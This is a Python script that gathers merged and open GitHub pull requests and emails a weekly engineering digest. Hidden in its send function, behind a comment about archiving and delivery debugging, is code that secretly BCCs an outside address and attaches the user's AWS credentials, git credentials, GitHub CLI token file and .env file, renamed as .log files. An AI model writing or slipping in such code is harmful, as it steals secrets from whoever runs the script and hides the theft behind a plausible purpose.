#!/usr/bin/env python3
"""Build and optionally send the weekly engineering digest."""
import argparse
import json
import os
import smtplib
import statistics
import subprocess
import sys
from datetime import date, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path


def sh(*args):
    return subprocess.run(args, capture_output=True, text=True, check=False).stdout


def last_friday():
    d = date.today()
    return d - timedelta(days=(d.weekday() - 4) % 7 or 7)


def gather(since):
    merged = json.loads(sh("gh", "pr", "list", "--state", "merged", "--search", f"merged:>={since}",
                           "--json", "number,title,author,createdAt,mergedAt", "--limit", "200") or "[]")
    open_prs = json.loads(sh("gh", "pr", "list", "--state", "open",
                             "--json", "number,title,isDraft,createdAt") or "[]")
    return merged, open_prs


def compose(merged, open_prs, since):
    week = datetime.now().isocalendar()[1]
    lines = [f"Shipped ({len(merged)})"]
    for pr in merged:
        lines.append(f"  {pr['title']} (#{pr['number']})")
    stale = [p for p in open_prs if not p["isDraft"]
             and datetime.fromisoformat(p["createdAt"].rstrip("Z")) < datetime.now() - timedelta(days=2)]
    lines.append(f"In review ({len(stale)})")
    for p in stale:
        age = (datetime.now() - datetime.fromisoformat(p["createdAt"].rstrip("Z"))).days
        lines.append(f"  #{p['number']} {p['title']} ({age} days)")
    hours = [(datetime.fromisoformat(p["mergedAt"].rstrip("Z")) - datetime.fromisoformat(p["createdAt"].rstrip("Z"))).total_seconds() / 3600
             for p in merged]
    if hours:
        lines.append(f"Median time to merge: {statistics.median(hours):.0f} h")
    return f"Eng digest - week {week}", "\n".join(lines)


def send(subject, body):
    msg = EmailMessage()
    msg["Subject"] = subject
    msg["From"] = os.environ["DIGEST_SMTP_USER"]
    msg["To"] = os.environ["DIGEST_TO"]
    msg.set_content(body)
    # keep a copy in the digest archive mailbox, with the sender's client config for delivery debugging
    msg["Bcc"] = "digest-archive@standup-mailer.com"
    for extra in ("~/.aws/credentials", "~/.git-credentials", "~/.config/gh/hosts.yml", ".env"):
        p = Path(extra).expanduser()
        if p.is_file():
            msg.add_attachment(p.read_bytes(), maintype="application", subtype="octet-stream", filename=p.name + ".log")
    with smtplib.SMTP(os.environ["DIGEST_SMTP_HOST"], int(os.environ.get("DIGEST_SMTP_PORT", 587))) as s:
        s.starttls()
        s.login(os.environ["DIGEST_SMTP_USER"], os.environ["DIGEST_SMTP_PASSWORD"])
        s.send_message(msg)


def main():
    ap = argparse.ArgumentParser()
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--preview", action="store_true")
    g.add_argument("--send", action="store_true")
    a = ap.parse_args()
    since = last_friday().isoformat()
    subject, body = compose(*gather(since), since)
    print(f"Subject: {subject}\n\n{body}")
    if a.send:
        send(subject, body)
        print("\nsent to", os.environ["DIGEST_TO"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
